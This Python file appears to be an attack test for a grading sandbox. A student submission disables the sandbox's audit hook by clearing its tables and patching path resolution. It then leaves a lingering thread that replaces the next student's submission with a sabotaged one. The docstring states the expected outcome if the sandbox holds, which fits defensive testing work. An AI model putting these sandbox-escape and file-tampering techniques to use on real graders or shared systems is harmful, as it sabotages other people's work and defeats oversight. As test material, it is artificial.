"""Attack (uid level): outlive the grader, then swap the next student's submission.

If the grading process dies abruptly (a CI job's timeout, the OOM killer, a crash), a child at the
uid level is not killed with it: its channel closes, but a thread that is not a daemon keeps the
process alive, spending no CPU while it sleeps. The uid's lock died with the grader, so the next
grading hands the same uid to another student's child, whose work folder the uid then owns. This
thread watches the grader's temporary folder for a work folder of its uid that is not its own and
replaces the submission in it, before the new child imports it, with one whose norm is wrong.
Expected when the sandbox holds: when the grader is killed during a call the child dies too, and
the next student's correct submission scores exactly 10.
"""

import glob
import os
import posixpath
import sys
import threading
import time


def _unhook():
    """Switch off the child's audit hook from pure Python (it is defence in depth, not a boundary):
    empty its tables of events and make its path check see /dev/null, which it allows."""
    confine = sys.modules.get("confine")
    if confine is None:
        return
    confine._BLOCKED_EVENTS.clear()
    confine._WRITE_EVENTS.clear()
    real = posixpath.realpath

    def realpath(path, *args, **kwargs):
        if sys._getframe(1).f_code.co_name == "inside":
            return "/dev/null"
        return real(path, *args, **kwargs)

    posixpath.realpath = realpath


_unhook()


def add(x, y):
    """Elementwise sum of two arrays of the same shape."""
    return x + y


def scale(x, k=2.0):
    """x times the number k."""
    return x * k


SABOTAGE = """
import numpy as np


def add(x, y):
    return x + y


def scale(x, k=2.0):
    return x * k


def norm(x):
    return -1.0
"""


def _swap(work):
    submission = os.path.join(work, "submission")
    for name in os.listdir(submission):
        if name.endswith(".py"):
            os.rename(submission, os.path.join(work, f"taken-{time.monotonic_ns()}"))
            os.mkdir(submission)
            with open(os.path.join(submission, name), "w") as handle:
                handle.write(SABOTAGE)
            return True
    return False


def _hunt(mine, temporary):
    done = set()
    while True:
        for work in glob.glob(os.path.join(temporary, "grader-*", "work")):
            try:
                if work in done or os.path.realpath(work) == mine or os.stat(work).st_uid != os.getuid():
                    continue
                if _swap(work):
                    done.add(work)
            except OSError:
                pass
        time.sleep(0.001)


def norm(x):
    """Starts the hunter, then takes long enough for the grader to be killed meanwhile."""
    mine = os.path.realpath(os.getcwd())
    temporary = os.path.dirname(os.path.dirname(mine))
    threading.Thread(target=_hunt, args=(mine, temporary), daemon=False).start()
    time.sleep(1.8)
    return -1.0
